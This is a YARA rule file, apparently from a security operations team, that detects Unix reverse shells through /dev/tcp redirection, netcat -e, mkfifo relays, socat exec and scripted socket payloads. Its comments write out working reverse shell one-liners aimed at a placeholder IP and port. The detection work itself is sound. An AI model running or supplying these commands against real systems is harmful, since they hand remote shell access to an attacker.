// citysoc YARA rules: interactive reverse shells on Linux hosts (auditd EXECVE, bash history,
// web requests carrying the payload).

rule reverse_shell_unix : execution reverse_shell
{
    meta:
        id = "citysoc-yara-reverse-shell"
        description = "Unix reverse shell: /dev/tcp redirection, netcat -e, mkfifo relay, socat exec, scripted socket+pty"
        level = "critical"
        attack = "attack.execution, attack.t1059.004, attack.command-and-control, attack.t1095"
        author = "citysoc SOC"
    strings:
        // bash -i >& /dev/tcp/203.0.113.9/4444 0>&1
        $dev_tcp_shell = /\b(ba|z|k)?sh\s+-i\s*(>&|&>|>)\s*\/dev\/(tcp|udp)\/[A-Za-z0-9.\-]{1,253}\/\d{1,5}/
        $exec_dev_tcp = /exec\s+\d+<>\s*\/dev\/tcp\/[A-Za-z0-9.\-]{1,253}\/\d{1,5}/
        // nc -e /bin/sh 203.0.113.9 4444 ; ncat 203.0.113.9 4444 -e /bin/bash
        $nc_exec = /\b(nc|ncat|netcat)(\.traditional|\.openbsd)?\s[^|;\r\n]{0,80}-[a-z]*[ec]\s*["']?\/bin\/(ba|z|da)?sh\b/
        // rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f
        $mkfifo = /mkfifo\s+\/tmp\/[^;\s]{1,40}\s*;[^\r\n]{0,80}\|\s*(\/bin\/)?(ba)?sh\s+-i[^\r\n]{0,40}\|\s*(nc|ncat|netcat)\s/
        $socat = /socat\s[^\r\n]{0,80}exec:["']?(\/bin\/)?(ba|z)?sh\b/ nocase
        // python -c 'import socket,subprocess,os;...;os.dup2(s.fileno(),0);...pty.spawn("/bin/sh")'
        $script_socket = /\b(python[23]?|perl|ruby|php)\s+-[a-z]*[ecr]\s+["'][^\r\n]{0,200}socket[^\r\n]{0,300}(pty\.spawn|os\.dup2|subprocess\.call|exec\s*\(|open\s*\(\s*STD(IN|OUT))/
    condition:
        any of them
}
